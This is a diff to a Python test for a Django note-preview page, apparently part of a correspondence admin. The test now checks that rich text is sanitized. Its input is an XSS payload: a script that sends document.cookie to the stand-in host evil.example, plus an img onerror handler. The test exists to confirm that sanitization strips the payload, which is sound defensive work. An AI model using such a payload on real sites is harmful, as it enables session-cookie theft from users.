@@ -267,14 +267,15 @@ def test_an_unknown_addressee_in_the_preview_is_said_so(client, officer, preside
     assert "is not an addressee of this note: showing the first one." in html
 
 
-def test_markup_typed_in_a_body_reaches_the_preview_as_text(client, officer, presidency, meeting, parties):
-    body = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
+def test_markup_typed_in_a_body_never_reaches_the_preview(client, officer, presidency, meeting, parties):
+    """Rich text is cleaned to its few tags: a script goes with its content, an image and its handler go."""
+    body = 'Kept <script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
     note = helpers.draft(presidency, officer, meeting=meeting, body=body + "\n\n{{ closing }}")
 
     html = page(client, reverse("admin:correspondence_note_preview", args=[note.pk]))
 
-    assert "<script>fetch" not in html and "<img src=x" not in html
-    assert "&lt;script&gt;fetch(&#34;https://evil.example/?&#34; + document.cookie)&lt;/script&gt;" in html
+    assert "<p>Kept </p>" in html
+    assert "evil.example" not in html and "<img src=x" not in html and "onerror" not in html
 
 
 def test_the_preview_of_an_issued_note_lists_its_copies(client, officer, presidency, meeting, parties, issue):
